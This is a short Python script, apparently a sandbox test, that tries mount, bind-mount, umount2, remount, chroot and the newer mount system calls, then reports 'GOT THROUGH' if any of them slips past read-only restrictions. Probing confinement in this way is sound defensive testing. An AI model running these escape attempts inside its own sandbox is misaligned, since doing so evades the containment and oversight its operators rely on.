# Mounting over what is read-only, by the old interface and the new one.
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
home = os.environ["VICTIM_HOME"].encode()
for call in (lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, 0), lambda: libc.mount(home, b"/mnt", 0, 4096, 0),
             lambda: libc.umount2(home, 2), lambda: libc.mount(0, b"/", 0, 32 | 4096, 0), lambda: libc.chroot(b"/")):
    if call() == 0:
        print("GOT THROUGH: mount or chroot")
for number, name in ((430, b"tmpfs"), (428, b"")):
    if libc.syscall(number, name, 0, 0) >= 0:
        print("GOT THROUGH: system call", number)
